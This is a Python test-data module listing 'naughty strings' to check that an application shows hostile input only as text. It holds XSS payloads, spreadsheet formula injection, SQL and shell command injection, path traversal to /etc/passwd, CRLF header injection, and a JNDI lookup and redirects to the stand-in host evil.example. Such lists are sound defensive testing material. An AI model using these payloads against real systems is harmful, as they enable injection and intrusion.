"""Text that breaks programs which take text for something else. Some lines are of the Big List of Naughty Strings
(Max Woolf, MIT licence)."""

# For journeys in which each string costs a form or an address of its own.
HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    '" autofocus onfocus=alert(1) x="',
    "</title><script>alert(2)</script>",
    "</textarea><svg onload=alert(3)>",
    "</option></select><iframe srcdoc='<script>parent.alert(4)</script>'>",
    "</td></tr></table></main><h1>Gone</h1>",
    "<!-- never closed",
    "javascript:alert(5)",
    "data:text/html,<script>alert(6)</script>",
    "&lt;b&gt; &amp;amp; &#60;script&#62;",
    "\u202e\u2066txet thgir ot tfel\u2069\u202c",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "%s%n %00 \\0 \\u0000 \ufffd",
    "'; DROP TABLE drafts; --",
    "👩‍👩‍👧‍👦🇩🇪𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
    "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤ ̖t̝͕̳̣̻̪͞h̼͓̲̦̳̘̲e͇̣̰̦̬͎",
    "田中さんにあげて下さい",
    "W" * 180,
    "a" * 40 + "\u200b\ufeff\u00ad" + "b" * 40,
]


# The other kinds, for rows, where a string costs nothing: which of them is whose idea of markup, of a number, of a path
# does not matter, as none may come out as anything but text. None is an address of the web, which would be a link.
EVERY = HOSTILE + [
    # Contexts of scripts and attributes, in the ways parsers forgive.
    "<ScRiPt >alert(1)</sCrIpT >",
    "<script\x20type=\"text/javascript\">alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    "</script><script>alert(1)</script>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=\"\x01javascript:alert(1)\">here</a>",
    "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<template><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<plaintext><xmp><listing>",
    "<![CDATA[ <b>bold</b> ]]><?php echo 1 ?>",
    "--><script>alert(1)</script><!--",
    "` onmouseover=`alert(1)`",
    "x\" style=\"position:fixed;inset:0\" data-x=\"",
    "\\\"-alert(1)-\\\"",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "vbscript:msgbox(1)",
    "jav\tascript:alert(1)",
    # What spreadsheets, SQL, shells, templates and printf take for more than text.
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "=HYPERLINK(\"//evil.example\",\"here\")",
    "1' OR '1'='1",
    "x\"; DELETE FROM runs; --",
    "Robert'); ATTACH 'x' AS y; --",
    "$(touch /tmp/x) `touch /tmp/x` ; touch /tmp/x | cat",
    "%d%x%p %99999999s %*.*f",
    "{0} {name!r} ${jndi:ldap://evil.example/a}",
    # Paths, and names that systems keep for themselves.
    "../../../../../../etc/passwd",
    "..\\..\\windows\\system32 C:\\CON",
    "file.csv; filename=evil.html",
    "NULL null nil None undefined NaN -0 1e309 0x7f true",
    "a\r\nSet-Cookie: b=c\r\n\r\n<html>",
    # Marks that are not seen, or that turn, pile up or do not join as they look.
    "\x01\x02\x07\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f",
    "\x80\x85\x9f\xa0\xad",
    "\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u2060\ufeff",
    "\u202egpj.exe\u202c \u2067\u05d0\u05d1\u2069 \u061c",
    "مرحبا بالعالم ‎<b>‎ שלום עולם",
    "\ufdd0\ufffe\uffff\U0001fffe",
    "e\u0301\u0301\u0301\u0301\u0301 A\u030a Å \u1100\u1161\u11a8 각",
    "Z" + "\u0334\u0335\u0336\u0489" * 40,
    "👨🏿‍❤️‍💋‍👨🏻 🏴󠁧󠁢󠁥󠁮󠁧󠁿 1️⃣ 🇺🇸🇷🇺🇸 \U000e0041\U000e007f",
    "ﷺ ﷽ 𒐫 ꧅ ဪ",
    "ß ẞ İ ı ſ ﬁ ŉ ΐ ǰ",
    "ｆｕｌｌｗｉｄｔｈ ①②③ Ⅷ ㎏ ½",
    "раураl аррlе",
    # Long runs, with and without a place to break.
    "nobreak" * 60,
    "<b>" * 80,
    "&amp" * 80,
    "' \" " * 60,
]


def shown(text):
    """As a page may show it: marks that turn the direction of what follows are left out."""
    return "".join(mark for mark in text if not ("\u202a" <= mark <= "\u202e" or "\u2066" <= mark <= "\u2069"))
